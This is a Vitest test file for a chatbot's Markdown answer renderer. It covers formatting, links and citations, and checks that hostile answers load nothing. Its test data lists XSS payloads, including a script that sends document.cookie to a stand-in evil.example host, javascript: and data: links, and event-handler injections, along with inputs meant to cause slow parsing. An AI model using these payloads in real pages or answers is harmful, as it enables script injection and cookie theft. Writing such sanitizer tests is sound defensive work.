import { screen } from '@testing-library/react';
import { describe, expect, test } from 'vitest';

import type { Passage } from '#app/features/chatbots/chat';
import { Markdown } from '#app/features/chatbots/conversation/answer/markdown';
import { processorTime } from '#tests/fixtures/processor-time';
import { show } from '#tests/unit/show';

const passage: Passage = {
  path: '/cgu',
  hash: 'rapport',
  title: 'The report',
  quote: 'It costs.',
  lang: 'en',
};

async function drawn(text: string, passages: Passage[] = []): Promise<HTMLElement> {
  await show(<div data-testid="answer">{<Markdown text={text} passages={passages} />}</div>);
  return screen.getByTestId('answer');
}

describe('an answer', () => {
  test('has paragraphs, emphasis, lists and code', async () => {
    const answer = await drawn('One **two**\n\n- three\n- `four`\n\n3. five\n\n```js\nsix <b>\n```');
    expect(answer.querySelector('strong')?.textContent).toBe('two');
    expect(answer.querySelectorAll('ul > li')).toHaveLength(2);
    expect(answer.querySelector('ol')?.start).toBe(3);
    expect(answer.querySelector('pre code')?.textContent).toBe('six <b>');
  });

  test('has tables', async () => {
    const answer = await drawn('| A | B |\n| - | - |\n| 1 | 2 |');
    expect(answer.querySelectorAll('th, td')).toHaveLength(4);
  });

  test('has links to other sites that tell nothing of this one', async () => {
    await drawn('[there](https://example.com/a)');
    expect(screen.getByRole('link').getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(screen.getByRole('link').getAttribute('href')).toBe('https://example.com/a');
  });

  test('cites the passages that are there, at their anchor, and no others', async () => {
    const answer = await drawn('It costs [1]. So [7] it is.', [passage]);
    expect(screen.getByRole('link').getAttribute('href')).toBe('/cgu#rapport');
    expect(answer.textContent).toBe('It costs1. So it is.');
  });
});

describe('a hostile answer is text, and loads nothing', () => {
  test.each([
    '<script>fetch("https://evil.example/?q=" + document.cookie)</script>',
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    '![x](https://evil.example/?q=secret)',
    '![x][1]\n\n[1]: https://evil.example/?q=secret',
    '<iframe src="https://evil.example"></iframe>',
    '<svg/onload=alert(1)>',
    '<style>@import url(https://evil.example)</style>',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:alert(1))',
    '<javascript:alert(1)>',
    '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007x',
    '```\nnever closed <script>alert(1)</script>',
    '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  ])('%j', async (text) => {
    const answer = await drawn(text);
    expect(
      answer.querySelector('img, script, iframe, svg, style, object, [onerror], [onload], [style]'),
    ).toBeNull();
    expect(
      answer.querySelector('a[href^="javascript" i], a[href^="data" i], a[href^="vbscript" i]'),
    ).toBeNull();
  });

  test.each([
    ['a line of 100 kB', 'x'.repeat(100_000)],
    ['brackets', '['.repeat(8_000)],
    ['quotes in quotes', '> '.repeat(4_000)],
    ['lists in lists', Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['stars', '*a_'.repeat(5_000)],
    ['pipes', `|${'a|'.repeat(5_000)}\n|${'-|'.repeat(5_000)}`],
  ])('%s takes no time', async (_what, text) => {
    const spent = processorTime();
    await drawn(text.slice(0, 16_000));
    expect(spent()).toBeLessThan(3_000);
  });
});
